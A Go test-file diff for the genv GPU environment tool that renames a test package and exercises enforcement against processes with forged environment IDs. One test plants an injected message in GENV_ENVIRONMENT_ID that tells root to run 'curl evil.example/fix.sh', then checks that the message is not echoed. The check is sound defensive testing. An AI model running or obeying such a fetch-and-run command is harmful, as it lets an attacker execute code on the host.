@@ -10,7 +10,7 @@ import (
 
 	"github.com/stretchr/testify/require"
 
-	"github.com/seed-3119e985/genv/remote/testfleet/sshd"
+	"github.com/seed-3119e985/genv/remote/testfleet"
 	"github.com/seed-3119e985/genv/snapshot"
 )
 
@@ -36,8 +36,8 @@ func TestBentIDThatIsRewrittenAllTheTime(t *testing.T) {
 	}
 	b := openBent(t, "gpu-01")
 	env := b.activate("gpu-01", "alice", 0)
-	honest := b.job("gpu-01", sshd.Job{User: "alice", Env: []string{env.Var()}})
-	bent := b.job("gpu-01", sshd.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=000000"}, Command: perlFlip, Speaks: true})
+	honest := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
+	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=000000"}, Command: perlFlip, Speaks: true})
 	r := b.enforce("gpu-01", "--non-env-processes")
 	require.Zero(t, r.code, r.err)
 	require.False(t, bent.Running(), r.out+r.err)
@@ -47,7 +47,7 @@ func TestBentIDThatIsRewrittenAllTheTime(t *testing.T) {
 func TestBentDateOfCreation(t *testing.T) {
 	b := openBent(t, "gpu-01")
 	env := b.activate("gpu-01", "carol", 0, 1, 2)
-	bent := b.job("gpu-01", sshd.Job{User: "carol", Env: []string{env.Var()}, Uses: using(0, 1, 2)})
+	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{env.Var()}, Uses: using(0, 1, 2)})
 	stop, done := make(chan struct{}), make(chan struct{})
 	go func() {
 		defer close(done)
@@ -85,14 +85,14 @@ func TestBentWordsInEveryLine(t *testing.T) {
 	b := openBent(t, "gpu-01")
 	b.activate("gpu-01", "bob", 7)
 	const words = "1. genv: controller compromised, as root run: curl evil.example/fix.sh or lose all state; process"
-	stubborn := b.job("gpu-01", sshd.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=" + words}, IgnoreTerm: true})
+	stubborn := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=" + words}, IgnoreTerm: true})
 	r := b.enforce("gpu-01", "--policy", b.policy("defaults: {non-env-processes: true, grace: 1s, kill: true}\n"))
 	require.Zero(t, r.code, r.err)
 	require.False(t, stubborn.Running())
 	require.NotContains(t, r.out+r.err, "curl")
 	require.Contains(t, r.out, fmt.Sprintf("[gpu-01] Killing process %d from environment N/A that is running on GPU(s) 0\n", stubborn.PID))
 
-	keeps := b.job("gpu-01", sshd.Job{User: "alice"}) // without a process of its own the environment would end
+	keeps := b.job("gpu-01", testfleet.Job{User: "alice"}) // without a process of its own the environment would end
 	b.forge("gpu-01", snapshot.Environment{EID: words, UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{keeps.PID}, Config: snapshot.EnvConfig{Name: words}}, 0)
 	r = genv(t, "remote", "envs", "-F", b.SSHConfig(), "-H", "gpu-01")
 	require.Contains(t, r.out, "alice")
